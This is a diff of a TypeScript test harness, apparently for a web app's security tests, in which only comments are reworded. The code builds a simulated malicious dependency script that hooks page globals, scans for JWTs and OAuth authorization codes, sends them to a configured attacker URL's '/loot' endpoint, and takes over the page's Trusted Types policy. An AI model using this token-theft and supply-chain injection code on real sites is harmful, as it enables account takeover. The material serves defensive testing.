@@ -3,27 +3,26 @@ import type { Attack, Facts, Injected, Payload } from "./attack.js";
 declare global {
   /** The attacker's script in a page of the app. */
   var attacker: {
-    /** Runs a payload to its end, or until it has had long enough. */
+    /** Runs a payload until it ends or times out. */
     run(name: string): Promise<string>;
-    /** How the last payload ended, if it has. */
+    /** How the last payload ended, if it has ended. */
     ending: string | undefined;
     /** Sends what could not be sent at once. */
     flush(): Promise<void>;
-    /** What script of another document of the same origin hands over. */
+    /** Receives values from script in another document of the same origin. */
     take(name: string, candidates: string[]): void;
   };
 }
 
-/** Where a page of a victim has the attacker's script: beside the app's own, as a dependency is. */
+/** The path of the attacker's script in a victim's page: next to the app's own, like a dependency. */
 export const INJECTED_SCRIPT = "/assets/dependency.js";
 
-/** How long a payload may take, in milliseconds. */
+/** Time limit for a payload, in milliseconds. */
 const PAYLOAD_TIME = 9_000;
 
 /**
- * The text of a script that the app has taken in with a dependency. `hooks` run in every document before the app;
- * the payloads wait until the driver starts them. `createsPolicy`: the script runs first, and creates the Trusted Types
- * policy of the page.
+ * The source of the attacker's script. `hooks` run in every document before the app; payloads run when the driver starts
+ * them. With `createsPolicy` the script runs first and creates the page's Trusted Types policy.
  */
 export function injectedScript(
   facts: Facts,
@@ -34,21 +33,21 @@ export function injectedScript(
   const payloads = attacks.flatMap(({ name, payload }) => (payload ? [entry(name, payload)] : []));
   const early = attacks.flatMap(({ name, hook }) => (hook && hooks.has(name) ? [entry(name, hook)] : []));
   return `(() => {
-    // esbuild wraps the functions it names in this helper; in the page it has nothing to do.
+    // esbuild wraps named functions in this helper. In the page it does nothing.
     const __name = (named) => named;
     (${install.toString()})(${JSON.stringify(facts)}, {${payloads.join(",\n")}}, {${early.join(",\n")}}, ${PAYLOAD_TIME}, ${createsPolicy});
   })();`;
 }
 
 function entry(name: string, payload: Payload): string {
-  // The test runner has put a function of its own in the place of `import()`.
+  // The test runner replaces `import()` with a function of its own.
   const text = payload.toString().replaceAll("__vite_ssr_dynamic_import__(", "import(");
-  // A method is no expression by itself.
+  // A method's source is not an expression.
   const method = /^(?:async\s+)?(hook|payload)\s*\(/.exec(text)?.[1];
   return `${JSON.stringify(name)}: ${method ? `({ ${text} }).${method}` : text}`;
 }
 
-/** Runs in the page, before anything else. It keeps what it needs of the page's globals, so that no hook meets it. */
+/** Runs first in the page. It saves the globals it needs, so that hooks do not affect it. */
 function install(
   facts: Facts,
   payloads: Record<string, Payload>,
@@ -70,7 +69,7 @@ function install(
   const pause = (milliseconds: number) =>
     new Pledge<void>((resolve) => setTimeout(() => resolve(), milliseconds));
 
-  /** Sent and waiting, by attack. */
+  /** Sent and unsent values, by attack. */
   const seen = new Set<string>();
   const waiting: [string, string][] = [];
   let stealing = false;
@@ -85,14 +84,14 @@ function install(
     if (waiting.length > 0) sending ??= pause(20).then(send);
   };
 
-  /** What looks like a JWT, an authorization code in a URL or in JSON, or a random value. */
+  /** Matches a JWT, an authorization code in a URL or in JSON, or a random value. */
   const candidatesIn = (text: string): string[] => {
     const tokens = text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+|[\w-]{43,}/g) ?? [];
     const codes = text.match(/\bcode(?:=|":")[\w-]+/g) ?? [];
     return [...codes.map((code) => code.replace('":"', "=")), ...tokens];
   };
 
-  /** A page whose policy forbids the request can still be told to go somewhere; a 204 leaves it where it is. */
+  /** If the page's policy forbids the request, navigates instead; with a 204 the page stays. */
   let blocked = false;
   const send = async () => {
     sending = undefined;
@@ -122,19 +121,19 @@ function install(
       return;
     }
     while (waiting.length > 0) {
-      // A URL that is too long is refused by the server.
+      // The server rejects long URLs.
       const batch: [string, string][] = [];
       for (let length = 0; waiting[0] && length < 10_000; length += waiting[0]?.[1].length ?? 0) {
         batch.push(waiting.shift() as [string, string]);
       }
-      // What stealing itself calls may be hooked.
+      // The functions called here may be hooked.
       stealing = true;
       location.href = `${facts.attackerUrl}/loot?${new URLSearchParams({ loot: json.stringify(batch) })}`;
       stealing = false;
       await pause(250);
     }
   };
-  // What waits goes on to the next document of the tab.
+  // Unsent values pass to the tab's next document.
   const luggage = "luggage";
   const carried = sessionStorage.getItem(luggage);
   if (carried !== null) {
@@ -145,7 +144,7 @@ function install(
     if (waiting.length > 0) sessionStorage.setItem(luggage, json.stringify(waiting));
   });
 
-  // The first script of a page can make the one policy the app's headers allow, and lend it to the app.
+  // The first script of a page can create the one policy that the app's headers allow, and share it with the app.
   let policy: { createScriptURL(url: string): string } | undefined;
   if (trustedTypes && createsPolicy) {
     const rules = { createScriptURL: (url: string) => url, createHTML: (html: string) => html };
@@ -156,7 +155,7 @@ function install(
       trustedTypes.createPolicy = (name, own) =>
         name === "strongroom" ? created : createPolicy.call(trustedTypes, name, own);
     } catch {
-      // Another document's script was first.
+      // The policy exists already.
     }
   }
 
@@ -177,7 +176,7 @@ function install(
           if (text) take(name, candidatesIn(text));
         }
       } catch {
-        // A value that JSON cannot hold has no text.
+        // The value cannot be serialized.
       } finally {
         stealing = false;
       }
@@ -223,7 +222,7 @@ function install(
     },
   });
 
-  // A flow that the attacker began in a frame, a popup or a tab has come back, if this document is where it ends.
+  // If the attacker's flow in a frame, popup or tab has ended in this document, report it.
   const arrived = /[?&#]state=attack\.([\w-]+)/.exec(location.href);
   if (arrived?.[1]) {
     toolsOf(arrived[1]).steal(location.href);
